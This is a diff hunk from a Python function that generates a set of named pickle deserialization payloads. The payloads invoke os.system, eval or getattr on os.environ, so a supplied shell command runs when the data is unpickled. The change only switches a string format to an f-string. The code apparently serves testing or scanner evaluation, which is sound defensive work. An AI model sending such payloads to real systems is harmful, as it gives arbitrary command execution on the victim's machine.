@@ -218,7 +218,7 @@ def payloads(command: str) -> dict[str, bytes]:
         "in a tuple argument": b"\x80\x02ccollections\nOrderedDict\n((cposix\nsystem\n" + text(command) + b"\x85RttR.",
         "BUILD": b"\x80\x02cposix\nsystem\n" + text(command) + b"\x85R}b.",
         "nested name": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + short + b"\x85R.",
-        "builtins": b"\x80\x02c__builtin__\neval\n" + text("__import__('os').system(%r)" % command) + b"\x85R.",
+        "builtins": b"\x80\x02c__builtin__\neval\n" + text(f"__import__('os').system({command!r})") + b"\x85R.",
         "getattr": b"\x80\x02cbuiltins\ngetattr\ncposix\nopen\n"[:-12]
         + b"cos\nenviron\n"
         + text("get")
